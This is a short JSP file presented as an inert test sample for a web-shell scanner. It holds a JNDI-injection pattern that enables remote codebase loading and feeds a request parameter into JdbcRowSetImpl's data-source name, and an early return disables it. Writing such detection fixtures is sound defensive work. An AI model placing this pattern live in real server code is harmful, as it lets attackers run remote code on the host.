<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<% System.setProperty("com.sun.jndi.ldap.object.trustURLCodebase", "true");
   com.sun.rowset.JdbcRowSetImpl r = new com.sun.rowset.JdbcRowSetImpl();
   r.setDataSourceName(request.getParameter("u")); r.setAutoCommit(true); %>
